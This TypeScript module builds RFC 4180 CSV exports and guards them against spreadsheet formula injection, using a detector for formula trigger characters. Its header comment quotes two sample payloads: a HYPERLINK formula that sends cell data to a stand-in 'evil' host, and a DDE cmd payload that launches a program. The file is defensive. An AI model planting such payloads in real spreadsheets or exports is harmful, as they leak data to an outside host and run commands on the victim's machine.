/**
 * CSV for examiners (R17a4-8: "a reasonably usable electronic format", searchable and sortable
 * in a spreadsheet), written so that opening it cannot run anything.
 *
 * Format: RFC 4180 — CRLF line ends; a cell containing a comma, a double quote, CR or LF is
 * enclosed in double quotes, with inner quotes doubled.
 *
 * Formula injection (OWASP "CSV Injection"): ledger values such as routes, reasons and
 * principal names come from clients, and a spreadsheet treats a cell starting with = + - @ (or
 * TAB or CR) as a formula, e.g. `=HYPERLINK("http://evil/?"&A1,"x")` or `+cmd|' /C calc'!A0`.
 * Such a string cell — also when the trigger follows leading whitespace or invisible characters,
 * and for the full-width and small forms of the trigger characters, which some spreadsheets
 * normalise — is prefixed with a single quote and quoted, so it shows as text with the
 * original characters visible. Numbers passed as numbers are written as they are: -1 is a
 * number; the string "-1+1" is neutralised.
 */

export type CsvCell = string | number | boolean | null | undefined;

/** The media type for a package's CSV files (RFC 4180 §3, with RFC 7111's header parameter). */
export const CSV_MEDIA_TYPE = 'text/csv; charset=utf-8; header=present';

// Leading characters a spreadsheet skips before looking for a formula: whitespace (JS \s covers
// Unicode spaces, LF, the BOM) plus zero-width characters.
const LEADING_IGNORED = /^[\s\u200b-\u200d\u2060]*/;
// = + - @ and their full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small (U+FE66, U+FE62,
// U+FE63, U+FE6B) forms.
const TRIGGER = /^[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** True when a spreadsheet could read the string as a formula. */
export function isFormulaLike(s: string): boolean {
  if (s.length === 0) return false;
  const first = s[0];
  if (first === '\t' || first === '\r') return true;
  return TRIGGER.test(s.slice(LEADING_IGNORED.exec(s)![0].length));
}

/**
 * One cell as RFC 4180 text, neutralised against formula injection. null and undefined are
 * empty; booleans are `true`/`false`; finite numbers are written as JavaScript prints them.
 * Throws TypeError for NaN or ±Infinity (silently writing them would change the data).
 *
 * @example
 * csvCell('=1+1')  // `"'=1+1"`
 * csvCell(-3)      // '-3'
 * csvCell('a,"b"') // '"a,""b"""'
 */
export function csvCell(value: CsvCell): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new TypeError(`csvCell: ${value} cannot be written as a CSV number`);
    return String(value);
  }
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  if (typeof value !== 'string') throw new TypeError(`csvCell: a ${typeof value} is not a CSV cell`);
  if (isFormulaLike(value)) return `"'${value.replaceAll('"', '""')}"`;
  return NEEDS_QUOTES.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/**
 * One record: the cells joined by commas, ended by CRLF.
 *
 * @example
 * csvRow([1, 'GET', '/accounts/{id}', null, '@SUM(1+1)']) // `1,GET,/accounts/{id},,"'@SUM(1+1)"\r\n`
 */
export function csvRow(cells: readonly CsvCell[]): string {
  let out = '';
  for (let i = 0; i < cells.length; i++) {
    if (i > 0) out += ',';
    out += csvCell(cells[i]);
  }
  return `${out}\r\n`;
}

/**
 * The header record; the names get the same treatment as any cell.
 *
 * @example
 * csvHeader(['seq', 'time', 'type']) // 'seq,time,type\r\n'
 */
export function csvHeader(names: readonly string[]): string {
  return csvRow(names);
}

/**
 * A whole small table: the header, then one record per row. For large exports write
 * csvHeader() once and csvRow() per record to a stream instead.
 *
 * @example
 * csvTable(['seq', 'outcome'], [[1, 'allow'], [2, 'deny']]) // 'seq,outcome\r\n1,allow\r\n2,deny\r\n'
 */
export function csvTable(names: readonly string[], rows: Iterable<readonly CsvCell[]>): string {
  let out = csvHeader(names);
  for (const row of rows) {
    if (row.length !== names.length) throw new TypeError(`csvTable: a row has ${row.length} cells, the header ${names.length}`);
    out += csvRow(row);
  }
  return out;
}
